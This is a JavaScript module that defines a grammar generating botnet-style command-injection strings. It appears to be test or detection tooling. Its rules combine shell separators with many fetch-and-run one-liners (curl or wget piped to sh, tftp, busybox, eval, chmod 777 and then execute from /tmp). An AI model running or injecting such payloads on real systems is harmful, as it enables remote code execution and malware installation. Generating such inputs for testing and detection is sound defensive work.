import { commandGenerator } from '../command-generator.js';
import { COMMAND, PLACES } from '../place.js';

/** Botnets: fetch something, make it runnable, run it, remove it. */
export const downloadRun = commandGenerator({
  name: 'download-run',
  places: [...PLACES, COMMAND],
  rules: {
    start: ['{leave}{first}{fetch-run}{end}'],
    first: [';', '; ', '|', '&&', '\n', '&'],
    url: [
      'http://{host}/{letters}',
      'http://{host}/{letters}.sh',
      'https://{host}:{port}/{letters}',
      '{host}/{name}.sh',
      'http://{host}/bins/{letters}.x86',
    ],
    file: ['{letters:f}', '/tmp/{letters:f}', './{letters:f}'],
    'fetch-run': [
      'curl {flag} {url} | sh',
      'curl {url}|bash',
      'wget -qO- {url} | sh',
      'wget {url} -O - | bash',
      '(curl -fsSL {url} || wget -q -O- {url}) | bash',
      'cd /tmp; wget {url}; chmod 777 {letters:f}; ./{letters:f}',
      'cd /tmp || cd /var/run; wget {url} -O {letters:f}; chmod +x {letters:f}; sh {letters:f}; rm -rf {letters:f}',
      'curl -o /tmp/{letters:f} {url} && sh /tmp/{letters:f}',
      'wget {url} -O /tmp/{letters:f}; sh /tmp/{letters:f}',
      'busybox wget {url} -O- | sh',
      'tftp -g -r {letters:f} {host}; chmod 777 {letters:f}; ./{letters:f} {name}',
      'sh -c "$(curl -fsSL {url})"',
      'bash -c "`wget -qO- {url}`"',
      'eval "$(curl -s {url})"',
      'curl {url} --output {letters:f};bash {letters:f}',
      'fetch -o - {url} | sh',
      'lwp-download {url} /tmp/{letters:f}; perl /tmp/{letters:f}',
      'scp user@{host}:{letters:f} .; sh {letters:f}',
    ],
    flag: ['-s', '-fsSL', '-k', '-L', '--silent', ''],
  },
});
